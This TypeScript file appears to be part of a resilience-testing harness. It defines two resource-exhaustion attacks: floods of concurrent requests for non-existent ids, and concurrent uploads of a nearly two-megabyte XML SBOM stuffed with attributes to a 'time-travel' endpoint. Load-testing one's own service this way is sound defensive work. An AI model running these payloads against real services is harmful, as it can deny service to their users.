import { type Attack, get, post } from './attack.ts';
import { madeUpId } from './live-fetches.ts';

/** A hundred pages at once of ids that nobody has: each waits for an upstream. */
export const waitingPages: Attack = async (url, deps) => {
  await Promise.allSettled(Array.from({ length: 100 }, () => get(`${url}/${madeUpId()}`, deps)));
};

/** Six documents at once that take seconds to read. */
export const costlyDocuments: Attack = async (url, deps) => {
  const body = costlyDocument();
  await Promise.allSettled(Array.from({ length: 6 }, () => post(`${url}/api/v1/sbom/time-travel`, deps, body)));
};

/** XML of nearly two megabytes, the most that is taken without a key, of little but attributes. */
function costlyDocument(): string {
  const attributes = Array.from({ length: 140_000 }, (_, i) => `a${i}="b"`).join(' ');
  const xml = `<bom xmlns="http://cyclonedx.org/schema/bom/1.6" ${attributes}><components/></bom>`;
  return JSON.stringify({ sbom: xml, date: '2024-10-24' });
}
